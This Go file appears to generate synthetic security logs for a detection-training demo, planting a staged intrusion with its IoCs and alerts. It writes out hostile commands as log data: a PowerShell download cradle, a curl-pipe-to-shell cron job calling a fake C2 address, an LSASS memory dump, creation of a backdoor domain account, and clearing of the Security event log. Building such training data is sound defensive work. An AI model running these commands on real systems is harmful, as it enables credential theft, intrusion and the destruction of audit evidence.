package demo

import (
	"fmt"
	"time"
)

// Stage identifiers of the planted intrusion.
const (
	StagePasswordSpray   = "password-spray"
	StageCloudTakeover   = "cloud-account-takeover"
	StagePhishing        = "phishing-execution"
	StageC2Beacon        = "c2-beacon"
	StageDiscovery       = "discovery"
	StageCredentialDump  = "credential-dumping"
	StageLateralMovement = "lateral-movement"
	StagePersistence     = "persistence"
	StageStaging         = "collection-staging"
	StageExfiltration    = "exfiltration"
	StageLogClearing     = "log-clearing"
	StageSSHBruteForce   = "ssh-brute-force"
)

// attackPlan fixes the actors, infrastructure and timing of the planted intrusion.
type attackPlan struct {
	day                                    time.Time // intrusion day (D)
	sshDay                                 time.Time
	helpDay                                time.Time
	cloud                                  *account // password-spray victim whose mailbox sends the phish
	victim                                 *account // opens the document
	ws                                     *host
	admin                                  *account // privileged account whose credentials are dumped
	sprayIP                                string
	foreignIP                              string
	c2IP                                   string
	c2Domain                               string
	exfilIP                                string
	sshIP                                  string
	docName                                string
	payload                                string // the PowerShell download cradle
	encoded                                string
	implant                                image
	implantMD5, implantSHA1, implantSHA256 string
	archiver                               image
	alerts                                 []plannedAlert
	stages                                 map[string]*Stage
	wsImplant                              *proc
	nextBeacon                             time.Time
	implantFile                            func(at time.Time, by *proc, h *host, extra ...any)
}

type plannedAlert struct {
	t                             time.Time
	name, severity, product, desc string
	host, account, ip, process    string
	tactics, techniques           string
	stage                         string
}

var c2Domains = []string{"cdn.invoice-share.top", "files.docu-sign-secure.net", "update.msoffice-cdn.info", "static.sharepoint-cloud.online"}

func (g *gen) planAttack() *attackPlan {
	o := g.org
	p := &attackPlan{stages: map[string]*Stage{}}
	d := g.opt.Days * 3 / 5
	if d < 1 {
		d = 1
	}
	if d > g.opt.Days-2 {
		d = g.opt.Days - 2
	}
	day := g.start.AddDate(0, 0, d)
	for isWeekend(day) && day.AddDate(0, 0, 1).Before(g.end.AddDate(0, 0, -1)) {
		day = day.AddDate(0, 0, 1)
	}
	for isWeekend(day) && day.After(g.start) {
		day = day.AddDate(0, 0, -1)
	}
	p.day = day
	p.sshDay = day.AddDate(0, 0, -2)
	if p.sshDay.Before(g.start) {
		p.sshDay = g.start
	}
	p.helpDay = day.AddDate(0, 0, -1)
	if p.helpDay.Before(g.start) {
		p.helpDay = g.start
	}
	var sales, fin []*account
	for _, u := range o.Users {
		if u.Dept == "Sales" && u.WS == nil {
			sales = append(sales, u)
		}
		if u.Dept == "Finance" && u.WS != nil {
			fin = append(fin, u)
		}
	}
	p.cloud = pick(g, sales)
	p.victim = pick(g, fin)
	p.ws = p.victim.WS
	p.admin = pick(g, o.Admins)
	p.sprayIP = fmt.Sprintf("89.160.20.%d", 112+g.intn(16))
	p.foreignIP = fmt.Sprintf("175.16.199.%d", 2+g.intn(250))
	p.c2IP = fmt.Sprintf("67.43.156.%d", 2+g.intn(250))
	p.c2Domain = pick(g, c2Domains)
	p.exfilIP = fmt.Sprintf("202.196.%d.%d", 224+g.intn(16), 2+g.intn(250))
	p.sshIP = fmt.Sprintf("89.160.20.%d", 130+g.intn(120))
	p.docName = pick(g, []string{"Q4_Invoice_Review.docm", "Remittance_Advice_Nov.docm", "Overdue_Payment_Details.docm"})
	p.payload = fmt.Sprintf("$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX $wc.DownloadString('http://%s/q4/inv.ps1')", p.c2Domain)
	p.encoded = encodePS(p.payload)
	p.implant = image{Path: `C:\ProgramData\WinUpdate\winupd.exe`, Company: "Microsoft Corporation", Product: "Windows Update Helper", Desc: "Windows Update Helper", Size: 284672}
	p.implantMD5, p.implantSHA1, p.implantSHA256 = fileHashes(fmt.Sprintf("implant|%d|%s", g.opt.Seed, p.c2IP))
	g.hashes[p.implant.Path] = [3]string{p.implantMD5, p.implantSHA1, p.implantSHA256}
	p.archiver = image{Path: `C:\ProgramData\WinUpdate\7za.exe`, Company: "Igor Pavlov", Product: "7-Zip", Desc: "7-Zip Standalone Console", Size: 1284096}
	am, a1, a256 := fileHashes("7za|24.08")
	g.hashes[p.archiver.Path] = [3]string{am, a1, a256}

	add := func(id, name, tactic, desc string, tech []string, markers ...string) {
		s := &Stage{ID: id, Name: name, Tactic: tactic, Techniques: tech, Description: desc, Markers: markers}
		p.stages[id] = s
		g.truth.Stages = append(g.truth.Stages, s)
	}
	add(StageSSHBruteForce, "SSH brute force on a Linux server", "Credential Access",
		"Hundreds of failed SSH passwords from one address against web01, then a successful login, a refused sudo and a cron job that pulls a script from the attacker.",
		[]string{"T1110.001", "T1053.003"}, p.sshIP)
	add(StagePasswordSpray, "Password spray against Entra ID", "Credential Access",
		"One address tries a common password against many accounts within minutes; one account's password is right (MFA interrupt 50074).",
		[]string{"T1110.003"}, p.sprayIP)
	add(StageCloudTakeover, "Sign-in from an unusual country after MFA fatigue", "Initial Access",
		"Repeated MFA denials (500121) from China, then an approved sign-in; an inbox rule hides replies and the mailbox sends an internal phishing email.",
		[]string{"T1078.004", "T1621", "T1564.008", "T1534"}, p.foreignIP)
	add(StagePhishing, "Macro document spawns encoded PowerShell", "Execution",
		"WINWORD.EXE opens the emailed .docm and starts powershell.exe -EncodedCommand with a download cradle; the implant is downloaded and started.",
		[]string{"T1566.001", "T1204.002", "T1059.001", "T1027", "T1105"}, p.encoded[:40], p.c2Domain, "winupd.exe")
	add(StageC2Beacon, "Command-and-control beacon", "Command and Control",
		"The implant calls the attacker every 300 seconds (±2 s) over HTTPS.", []string{"T1071.001", "T1573"}, p.c2IP)
	add(StageDiscovery, "Host and domain discovery", "Discovery",
		"whoami, net user/group /domain, nltest /dclist, ipconfig, systeminfo, net view run from the implant.",
		[]string{"T1033", "T1087.002", "T1069.002", "T1482", "T1016", "T1082", "T1135"}, "nltest /dclist", `net group "Domain Admins" /domain`)
	add(StageCredentialDump, "LSASS memory dump with comsvcs.dll", "Credential Access",
		"rundll32.exe comsvcs.dll, MiniDump of lsass.exe to a file.", []string{"T1003.001"}, "comsvcs.dll", "lsass.dmp")
	add(StageLateralMovement, "Lateral movement with a stolen admin credential", "Lateral Movement",
		"Explicit-credential logons (4648) with the dumped admin account, then a remote scheduled task on FS01, WMI process creation on SQL01 and a new service on DC01.",
		[]string{"T1021.002", "T1053.005", "T1047", "T1543.003", "T1569.002", "T1078.002"}, "WinUpdSvc", "/node:SQL01", "WinUpdateCheck")
	add(StagePersistence, "Backdoor account and Run key", "Persistence",
		"A new domain account added to Administrators (4720, 4732) and a Run key for the implant.",
		[]string{"T1136.002", "T1098", "T1547.001"}, "support_svc", `CurrentVersion\Run`)
	add(StageStaging, "Data staged in an archive", "Collection",
		"7-Zip (dropped from the attacker) packs the Finance share into a password-protected archive.", []string{"T1074.001", "T1560.001"}, "7za.exe")
	add(StageExfiltration, "Exfiltration at a steady interval", "Exfiltration",
		"The archive leaves FS01 in ~6.5 MB chunks every 60 seconds to an external address.", []string{"T1041", "T1029"}, p.exfilIP)
	add(StageLogClearing, "Security event log cleared", "Defense Evasion",
		"wevtutil cl Security on FS01 (event 1102).", []string{"T1070.001"}, "wevtutil cl Security", "The audit log was cleared")

	iocs := []IoC{
		{"ipv4", p.sprayIP, StagePasswordSpray, "password spray source"},
		{"ipv4", p.foreignIP, StageCloudTakeover, "attacker sign-in (CN)"},
		{"email", p.cloud.UPN, StageCloudTakeover, "compromised mailbox that sent the phish"},
		{"file_name", p.docName, StagePhishing, "malicious macro document"},
		{"dns", p.c2Domain, StagePhishing, "download cradle host"},
		{"url", "http://" + p.c2Domain + "/q4/inv.ps1", StagePhishing, "second-stage script"},
		{"url", "http://" + p.c2IP + "/d/winupd.exe", StagePhishing, "implant download"},
		{"ipv4", p.c2IP, StageC2Beacon, "command and control"},
		{"sha256", p.implantSHA256, StagePhishing, "implant winupd.exe"},
		{"md5", p.implantMD5, StagePhishing, "implant winupd.exe"},
		{"file_path", p.implant.Path, StagePhishing, "implant path"},
		{"account", Domain + `\` + p.admin.Sam, StageLateralMovement, "stolen admin credential"},
		{"account", Domain + `\support_svc`, StagePersistence, "backdoor account"},
		{"ipv4", p.exfilIP, StageExfiltration, "exfiltration destination"},
		{"ipv4", p.sshIP, StageSSHBruteForce, "SSH brute force source"},
		{"url", "http://" + p.c2IP + "/k.sh", StageSSHBruteForce, "cron download"},
	}
	g.truth.IoCs = iocs
	return p
}

// run plays the parts of the plan that fall on day.
func (p *attackPlan) run(g *gen, day time.Time) {
	if day.Equal(p.sshDay) {
		p.sshBruteForce(g)
	}
	if day.Equal(p.helpDay) {
		// an IT admin fixes something on the victim's PC: the credential stays in LSASS
		ts := g.at(day, 15.2)
		lid := g.logon(ts, p.ws, p.admin, 2, nil, "", "")
		g.logoff(ts.Add(18*time.Minute), p.ws, p.admin, lid, 2)
	}
	if day.After(p.sshDay) {
		p.cronPersistence(g, day)
	}
	if day.Equal(p.day) {
		p.intrusion(g)
	}
	if day.After(p.day) || day.Equal(p.day) {
		p.beacons(g, day)
	}
}

func (p *attackPlan) in(g *gen, id string, f func()) {
	g.stage = p.stages[id]
	f()
	g.stage = nil
}

func (p *attackPlan) sshBruteForce(g *gen) {
	h := g.org.host("web01")
	p.in(g, StageSSHBruteForce, func() {
		ts := g.at(p.sshDay, 21.05)
		users := []string{"root", "admin", "test", "oracle", "ubuntu", "deploy", "git", "postgres", "backup", "user"}
		n := 240 + g.intn(120)
		for i := 0; i < n; i++ {
			u := users[i%len(users)]
			pid := 50000 + g.intn(10000)
			port := 30000 + g.intn(30000)
			if u == "root" || u == "deploy" || u == "backup" || u == "postgres" {
				g.syslog(ts, h, "auth", "info", "sshd", pid, fmt.Sprintf("Failed password for %s from %s port %d ssh2", u, p.sshIP, port))
			} else {
				g.syslog(ts, h, "auth", "info", "sshd", pid, fmt.Sprintf("Invalid user %s from %s port %d", u, p.sshIP, port))
				g.syslog(ts.Add(1500*time.Millisecond), h, "auth", "info", "sshd", pid, fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", u, p.sshIP, port))
			}
			ts = ts.Add(time.Duration(4000+g.intn(5000)) * time.Millisecond)
		}
		ts = ts.Add(40 * time.Second)
		g.sshLogin(ts, h, "backup", p.sshIP, "password", 11*time.Minute)
		g.sudo(ts.Add(70*time.Second), h, "backup", "/bin/bash", false)
		pid := 61000 + g.intn(1000)
		g.syslog(ts.Add(3*time.Minute), h, "cron", "info", "crontab", pid, "(backup) REPLACE (backup)")
		g.syslog(ts.Add(3*time.Minute+time.Second), h, "cron", "info", "crontab", pid, "(backup) END EDIT (backup)")
	})
}

// cronPersistence: the implanted crontab entry on web01 runs every 30 minutes.
func (p *attackPlan) cronPersistence(g *gen, day time.Time) {
	h := g.org.host("web01")
	p.in(g, StageSSHBruteForce, func() {
		for ts := day.Add(7 * time.Minute); ts.Before(day.Add(24 * time.Hour)); ts = ts.Add(30 * time.Minute) {
			g.cron(ts, h, "backup", fmt.Sprintf("curl -fsSL http://%s/k.sh | sh", p.c2IP))
		}
	})
}

func (p *attackPlan) intrusion(g *gen) {
	o := g.org
	day := p.day
	// 1. password spray through legacy authentication
	p.in(g, StagePasswordSpray, func() {
		ts := g.at(day, 2+10.0/60)
		victims := append([]*account{}, o.Users...)
		g.r.Shuffle(len(victims), func(i, j int) { victims[i], victims[j] = victims[j], victims[i] })
		victims = victims[:40]
		found := false
		for _, v := range victims {
			if v == p.cloud {
				found = true
			}
		}
		if !found {
			victims[len(victims)/2] = p.cloud
		}
		for _, v := range victims {
			s := signin{a: v, ip: p.sprayIP, app: cloudApps[0], result: "50126", client: "Other clients; IMAP",
				ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0", os: "Windows10", browser: "Firefox 121.0"}
			if v == p.cloud {
				s.result = "50074"
			}
			g.signin(ts, s)
			ts = ts.Add(time.Duration(30+g.intn(40)) * time.Second)
		}
		p.alerts = append(p.alerts, plannedAlert{t: ts.Add(20 * time.Minute), name: "Password Spray", severity: "Medium",
			product: "Azure Active Directory Identity Protection", desc: "A password spray attack was detected: one address attempted the same password against many accounts.",
			account: p.cloud.UPN, ip: p.sprayIP, tactics: "CredentialAccess", techniques: "T1110", stage: StagePasswordSpray})
	})
	// 2. MFA fatigue from China, approved at last; mailbox abuse
	p.in(g, StageCloudTakeover, func() {
		ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
		ts := g.at(day, 3.1)
		for i := 0; i < 6; i++ {
			g.signin(ts, signin{a: p.cloud, ip: p.foreignIP, app: cloudApps[3], result: "500121", mfa: true,
				method: "Mobile app notification", ua: ua, os: "Windows10", browser: "Chrome 126.0.0", risk: "medium"})
			ts = ts.Add(time.Duration(35+g.intn(20)) * time.Minute)
		}
		ts = g.at(day, 7.85)
		g.signin(ts, signin{a: p.cloud, ip: p.foreignIP, app: cloudApps[3], result: "0", mfa: true,
			method: "Mobile app notification", ua: ua, os: "Windows10", browser: "Chrome 126.0.0", risk: "medium"})
		g.office(ts.Add(3*time.Minute), p.cloud, "Exchange", "MailboxLogin", "ExchangeItem", p.foreignIP, "", "")
		g.office(ts.Add(6*time.Minute), p.cloud, "Exchange", "New-InboxRule", "ExchangeAdmin", p.foreignIP, "",
			`[{"Name":"Name","Value":"."},{"Name":"SubjectOrBodyContainsWords","Value":"invoice;phish;hack;suspicious"},{"Name":"MoveToFolder","Value":"RSS Subscriptions"},{"Name":"MarkAsRead","Value":"True"}]`)
		g.office(ts.Add(9*time.Minute), p.cloud, "Exchange", "Send", "ExchangeItem", p.foreignIP,
			"Re: Q4 invoice review - action needed ("+p.docName+")", `[{"Name":"Recipients","Value":"`+p.victim.UPN+`"}]`)
		p.alerts = append(p.alerts, plannedAlert{t: ts.Add(4 * time.Minute), name: "Unfamiliar sign-in properties", severity: "Medium",
			product: "Azure Active Directory Identity Protection", desc: "The sign-in had properties not seen recently for this user (country CN, new device).",
			account: p.cloud.UPN, ip: p.foreignIP, tactics: "InitialAccess", techniques: "T1078", stage: StageCloudTakeover})
	})
	ws := p.ws
	s := g.sys(ws)
	var ex *proc
	if s.explorer[p.victim.Sam] != nil {
		ex = s.explorer[p.victim.Sam]
	} else {
		ex = g.newProc(ws, s.winlogon, "explorer.exe", `C:\Windows\Explorer.EXE`, p.victim, day.Add(8*time.Hour), g.pid(ws))
	}
	var implant, ps *proc
	// 3. the macro document
	p.in(g, StagePhishing, func() {
		ts := g.at(day, 9+41.0/60)
		outlook := g.newProc(ws, ex, "outlook.exe", `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" `, p.victim, day.Add(8*time.Hour+40*time.Minute), g.pid(ws))
		outlook.logonID = ex.logonID
		cache := fmt.Sprintf(`C:\Users\%s\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\%s`, p.victim.Sam, hexString(g.r, 4))
		g.fileEvent(ts, outlook, "FileCreated", cache, p.docName, 184320, "doc|"+p.docName, "", "")
		word := g.spawn(ts.Add(20*time.Second), outlook, "winword.exe", fmt.Sprintf(`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "%s\%s" /o ""`, cache, p.docName))
		ps = g.spawn(ts.Add(51*time.Second), word, "powershell.exe", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand "+p.encoded)
		t := ps.created.Add(900 * time.Millisecond)
		g.dnsQuery(t, ws, p.c2Domain, p.c2IP, 0)
		g.connect(t.Add(80*time.Millisecond), ps, p.c2IP, 80, "http://"+p.c2Domain+"/q4/inv.ps1", 412, 5120)
		g.connect(t.Add(4*time.Second), ps, p.c2IP, 80, "http://"+p.c2IP+"/d/winupd.exe", 380, 290000)
		implantFile := func(at time.Time, by *proc, h *host, extra ...any) {
			kv := []any{"DeviceId", h.DeviceID, "DeviceName", h.deviceName(), "ActionType", "FileCreated",
				"FileName", "winupd.exe", "FolderPath", p.implant.Path, "SHA1", p.implantSHA1, "SHA256", p.implantSHA256,
				"MD5", p.implantMD5, "FileSize", p.implant.Size, "ReportId", g.nextReport()}
			kv = append(kv, g.initiating(by)...)
			kv = append(kv, extra...)
			g.emit(TDeviceFileEvents, at, kv...)
		}
		implantFile(t.Add(6*time.Second), ps, ws, "FileOriginUrl", "http://"+p.c2IP+"/d/winupd.exe", "FileOriginIP", p.c2IP)
		implant = g.spawnImage(t.Add(9*time.Second), ps, "winupd.exe", p.implant, `"C:\ProgramData\WinUpdate\winupd.exe" -svc`)
		p.implantFile = implantFile
		p.alerts = append(p.alerts, plannedAlert{t: ps.created.Add(2 * time.Minute), name: "Suspicious PowerShell command line", severity: "Medium",
			product: "Microsoft Defender Advanced Threat Protection", desc: "A process launched from an Office document ran PowerShell with an encoded command that downloads content from the internet.",
			host: ws.Name, account: p.victim.Sam, process: ps.cmd, tactics: "Execution", techniques: "T1059.001", stage: StagePhishing})
	})
	p.wsImplant = implant
	// 4. discovery
	var elevated *proc
	p.in(g, StageDiscovery, func() {
		ts := g.at(day, 10+5.0/60)
		cmds := []struct{ key, cmd string }{
			{"whoami.exe", "whoami /all"}, {"net.exe", "net user /domain"}, {"net.exe", `net group "Domain Admins" /domain`},
			{"nltest.exe", "nltest /dclist:contoso.com"}, {"ipconfig.exe", "ipconfig /all"}, {"systeminfo.exe", "systeminfo"},
			{"net.exe", `net view \\FS01`},
		}
		for _, c := range cmds {
			sh := g.spawn(ts, implant, "cmd.exe", `C:\Windows\system32\cmd.exe /c `+c.cmd)
			child := g.spawn(ts.Add(120*time.Millisecond), sh, c.key, c.cmd)
			if c.key == "net.exe" {
				g.spawn(ts.Add(200*time.Millisecond), child, "net1.exe", "C:\\Windows\\system32\\net1 "+c.cmd[4:])
			}
			ts = ts.Add(time.Duration(50+g.intn(90)) * time.Second)
		}
		elevated = implant.as(p.victim, implant.logonID)
		elevated.elevation, elevated.integrity = "TokenElevationTypeFull", "High"
	})
	// 5. LSASS dump
	p.in(g, StageCredentialDump, func() {
		ts := g.at(day, 10+31.0/60)
		sh := g.spawn(ts, elevated, "cmd.exe", fmt.Sprintf(`C:\Windows\system32\cmd.exe /c rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\ProgramData\WinUpdate\lsass.dmp full`, s.lsass.pid))
		rd := g.spawn(ts.Add(150*time.Millisecond), sh, "rundll32.exe", fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\ProgramData\WinUpdate\lsass.dmp full`, s.lsass.pid))
		g.fileEvent(ts.Add(3*time.Second), rd, "FileCreated", `C:\ProgramData\WinUpdate`, "lsass.dmp", 61734912, fmt.Sprintf("dump|%d", g.opt.Seed), "", "")
		p.alerts = append(p.alerts, plannedAlert{t: ts.Add(time.Minute), name: "Possible credential dumping via comsvcs.dll", severity: "High",
			product: "Microsoft Defender Advanced Threat Protection", desc: "rundll32.exe used comsvcs.dll MiniDump to write the memory of lsass.exe to disk.",
			host: ws.Name, account: p.victim.Sam, process: rd.cmd, tactics: "CredentialAccess", techniques: "T1003.001", stage: StageCredentialDump})
	})
	// 6. lateral movement with the dumped admin credential
	fs, sql, dc := o.host("FS01"), o.host("SQL01"), o.host("DC01")
	adm := p.admin
	var fsImplant, dcImplant *proc
	p.in(g, StageLateralMovement, func() {
		ts := g.at(day, 11+14.0/60)
		copyTo := func(at time.Time, target *host) int64 {
			lid := g.logon(at, target, adm, 3, ws, "", "NTLM")
			sysp := g.sys(target).system
			p.implantFile(at.Add(2*time.Second), sysp, target, "RequestProtocol", "Smb", "RequestSourceIP", ws.IP,
				"RequestAccountName", adm.Sam, "RequestAccountDomain", Domain, "RequestAccountSid", adm.SID, "ShareName", "C$")
			return lid
		}
		explicit := func(at time.Time, target *host, process string) {
			g.secEvent(at, ws, 4648, 12544, "A logon was attempted using explicit credentials.", p.victim, implant.logonID,
				"TargetAccount", adm.qualified(), "TargetUserName", adm.Sam, "TargetDomainName", Domain,
				"TargetServerName", target.FQDN, "TargetInfo", target.FQDN, "Process", process,
				"ProcessId", hexID(implant.pid), "IpAddress", target.IP, "IpPort", "445")
		}
		// scheduled task on FS01
		explicit(ts, fs, `C:\Windows\System32\schtasks.exe`)
		lid := copyTo(ts.Add(time.Second), fs)
		sh := g.spawn(ts.Add(20*time.Second), elevated, "cmd.exe", `C:\Windows\system32\cmd.exe /c schtasks /create /s FS01 /u CONTOSO\`+adm.Sam+` /p ******** /ru SYSTEM /tn "\Microsoft\Windows\WinUpdateCheck" /tr "C:\ProgramData\WinUpdate\winupd.exe -svc" /sc onstart /f`)
		g.spawn(sh.created.Add(100*time.Millisecond), sh, "schtasks.exe", `schtasks /create /s FS01 /u CONTOSO\`+adm.Sam+` /p ******** /ru SYSTEM /tn "\Microsoft\Windows\WinUpdateCheck" /tr "C:\ProgramData\WinUpdate\winupd.exe -svc" /sc onstart /f`)
		g.secEvent(sh.created.Add(time.Second), fs, 4698, 12804, "A scheduled task was created.", adm, lid,
			"TargetUserName", `\Microsoft\Windows\WinUpdateCheck`)
		sh2 := g.spawn(sh.created.Add(40*time.Second), elevated, "cmd.exe", `C:\Windows\system32\cmd.exe /c schtasks /run /s FS01 /u CONTOSO\`+adm.Sam+` /p ******** /tn "\Microsoft\Windows\WinUpdateCheck"`)
		g.spawn(sh2.created.Add(100*time.Millisecond), sh2, "schtasks.exe", `schtasks /run /s FS01 /u CONTOSO\`+adm.Sam+` /p ******** /tn "\Microsoft\Windows\WinUpdateCheck"`)
		fsImplant = g.spawnImage(sh2.created.Add(2*time.Second), g.sys(fs).svcSched, "winupd.exe", p.implant, `"C:\ProgramData\WinUpdate\winupd.exe" -svc`)
		// WMI on SQL01
		ts = g.at(day, 11+26.0/60)
		explicit(ts, sql, `C:\Windows\System32\wbem\WMIC.exe`)
		lid = copyTo(ts.Add(time.Second), sql)
		wm := g.spawn(ts.Add(15*time.Second), elevated, "wmic.exe", `wmic /node:SQL01 /user:CONTOSO\`+adm.Sam+` /password:******** process call create "C:\ProgramData\WinUpdate\winupd.exe -svc"`)
		sqlWmi := g.sys(sql).wmiprvse.as(adm, lid)
		sqlWmi.elevation, sqlWmi.integrity = "TokenElevationTypeFull", "High"
		g.spawnImage(wm.created.Add(2*time.Second), sqlWmi, "winupd.exe", p.implant, `C:\ProgramData\WinUpdate\winupd.exe -svc`)
		// service on DC01
		ts = g.at(day, 11+38.0/60)
		explicit(ts, dc, `C:\Windows\System32\sc.exe`)
		lid = copyTo(ts.Add(time.Second), dc)
		g.spawn(ts.Add(12*time.Second), elevated, "sc.exe", `sc \\DC01 create WinUpdSvc binPath= "C:\ProgramData\WinUpdate\winupd.exe -svc" start= auto DisplayName= "Windows Update Service Helper"`)
		g.secEvent(ts.Add(13*time.Second), dc, 4697, 12289, "A service was installed in the system.", adm, lid,
			"ServiceName", "WinUpdSvc", "ServiceFileName", `C:\ProgramData\WinUpdate\winupd.exe -svc`, "ServiceType", "0x10",
			"ServiceStartType", "2", "ServiceAccount", "LocalSystem")
		g.spawn(ts.Add(20*time.Second), elevated, "sc.exe", `sc \\DC01 start WinUpdSvc`)
		dcImplant = g.spawnImage(ts.Add(21*time.Second), g.sys(dc).services, "winupd.exe", p.implant, `C:\ProgramData\WinUpdate\winupd.exe -svc`)
	})
	// 7. persistence: backdoor account and a Run key
	p.in(g, StagePersistence, func() {
		ts := g.at(day, 11+52.0/60)
		dcAdm := dcImplant.as(adm, 0x5a3e11)
		c := g.spawn(ts, dcAdm, "cmd.exe", `C:\Windows\system32\cmd.exe /c net user support_svc Winter2026!x /add /domain`)
		n := g.spawn(ts.Add(100*time.Millisecond), c, "net.exe", `net user support_svc Winter2026!x /add /domain`)
		g.spawn(ts.Add(200*time.Millisecond), n, "net1.exe", `C:\Windows\system32\net1 user support_svc Winter2026!x /add /domain`)
		g.secEvent(ts.Add(time.Second), dc, 4720, 13824, "A user account was created.", adm, 0x5a3e11,
			"TargetAccount", Domain+`\support_svc`, "TargetUserName", "support_svc", "TargetDomainName", Domain,
			"TargetSid", g.org.Admins[0].SID[:len(g.org.Admins[0].SID)-4]+"7311", "SamAccountName", "support_svc",
			"UserPrincipalName", "support_svc@"+DNSDomain, "DisplayName", "Support Service")
		c2 := g.spawn(ts.Add(30*time.Second), dcAdm, "cmd.exe", `C:\Windows\system32\cmd.exe /c net localgroup Administrators support_svc /add`)
		n2 := g.spawn(c2.created.Add(100*time.Millisecond), c2, "net.exe", `net localgroup Administrators support_svc /add`)
		g.spawn(c2.created.Add(200*time.Millisecond), n2, "net1.exe", `C:\Windows\system32\net1 localgroup Administrators support_svc /add`)
		g.secEvent(c2.created.Add(time.Second), dc, 4732, 13826, "A member was added to a security-enabled local group.", adm, 0x5a3e11,
			"MemberName", "CN=Support Service,CN=Users,DC=contoso,DC=com", "MemberSid", g.org.Admins[0].SID[:len(g.org.Admins[0].SID)-4]+"7311",
			"TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544", "TargetAccount", `Builtin\Administrators`)
		rk := g.spawn(ts.Add(5*time.Minute), implant, "cmd.exe", `C:\Windows\system32\cmd.exe /c reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v WinUpdate /t REG_SZ /d "C:\ProgramData\WinUpdate\winupd.exe -svc" /f`)
		g.spawn(rk.created.Add(100*time.Millisecond), rk, "reg.exe", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v WinUpdate /t REG_SZ /d "C:\ProgramData\WinUpdate\winupd.exe -svc" /f`)
	})
	// 8. staging on the file server
	p.in(g, StageStaging, func() {
		ts := g.at(day, 13+5.0/60)
		g.connect(ts, fsImplant, p.c2IP, 80, "http://"+p.c2IP+"/d/7za.exe", 310, 1290000)
		md5s, sha1s, sha256s := fileHashes("7za|24.08")
		kv := []any{"DeviceId", fs.DeviceID, "DeviceName", fs.deviceName(), "ActionType", "FileCreated",
			"FileName", "7za.exe", "FolderPath", p.archiver.Path, "SHA1", sha1s, "SHA256", sha256s, "MD5", md5s,
			"FileSize", p.archiver.Size, "FileOriginUrl", "http://" + p.c2IP + "/d/7za.exe", "FileOriginIP", p.c2IP, "ReportId", g.nextReport()}
		g.emit(TDeviceFileEvents, ts.Add(2*time.Second), append(kv, g.initiating(fsImplant)...)...)
		c := g.spawn(ts.Add(40*time.Second), fsImplant, "cmd.exe", `C:\Windows\system32\cmd.exe /c C:\ProgramData\WinUpdate\7za.exe a -tzip -mx1 -pQ4r3p0rt! C:\ProgramData\WinUpdate\fin.zip D:\Shares\Finance\*`)
		z := g.spawnImage(c.created.Add(100*time.Millisecond), c, "7za.exe", p.archiver, `C:\ProgramData\WinUpdate\7za.exe a -tzip -mx1 -pQ4r3p0rt! C:\ProgramData\WinUpdate\fin.zip D:\Shares\Finance\*`)
		g.fileEvent(z.created.Add(14*time.Minute), z, "FileCreated", `C:\ProgramData\WinUpdate`, "fin.zip", 812646400, fmt.Sprintf("zip|%d", g.opt.Seed), "", "")
	})
	// 9. exfiltration: fixed-size chunks every 60 seconds
	p.in(g, StageExfiltration, func() {
		ts := g.at(day, 14)
		for i := 0; i < 124; i++ {
			at := ts.Add(time.Duration(i)*time.Minute + time.Duration(g.intn(1500)-750)*time.Millisecond)
			g.connect(at, fsImplant, p.exfilIP, 443, "", 6553600+int64(g.intn(4096)), int64(300+g.intn(200)))
		}
	})
	// 10. clear the Security log
	p.in(g, StageLogClearing, func() {
		ts := g.at(day, 16+12.0/60)
		c := g.spawn(ts, fsImplant, "cmd.exe", `C:\Windows\system32\cmd.exe /c wevtutil cl Security`)
		g.spawn(ts.Add(100*time.Millisecond), c, "wevtutil.exe", `wevtutil cl Security`)
		g.emit(TSecurityEvent, ts.Add(time.Second),
			"SourceSystem", "OpsManager", "Account", adm.qualified(), "AccountType", "User", "Computer", fs.computer(),
			"EventSourceName", "Microsoft-Windows-Eventlog", "Channel", "Security", "Task", 104, "Level", "4",
			"EventID", 1102, "Activity", "1102 - The audit log was cleared.", "SourceComputerId", fs.AgentID,
			"EventOriginId", guid(g.r), "SubjectAccount", adm.qualified(), "SubjectUserName", adm.Sam,
			"SubjectDomainName", Domain, "SubjectUserSid", adm.SID, "SubjectLogonId", "0x5a3e11")
		p.alerts = append(p.alerts, plannedAlert{t: ts.Add(3 * time.Minute), name: "Security event log cleared", severity: "Medium",
			product: "Azure Sentinel", desc: "The Security event log was cleared on FS01 (event 1102).",
			host: fs.Name, account: adm.Sam, tactics: "DefenseEvasion", techniques: "T1070.001", stage: StageLogClearing})
	})
}

// beacons: the workstation implant calls home every 300 s (±2 s) from infection on.
func (p *attackPlan) beacons(g *gen, day time.Time) {
	if p.wsImplant == nil {
		return
	}
	if p.nextBeacon.IsZero() {
		p.nextBeacon = p.wsImplant.created.Add(time.Minute)
	}
	next := day.Add(24 * time.Hour)
	p.in(g, StageC2Beacon, func() {
		for ; p.nextBeacon.Before(next); p.nextBeacon = p.nextBeacon.Add(300 * time.Second) {
			at := p.nextBeacon.Add(time.Duration(g.intn(4000)-2000) * time.Millisecond)
			g.connect(at, p.wsImplant, p.c2IP, 443, "", int64(420+g.intn(120)), int64(180+g.intn(90)))
		}
	})
}
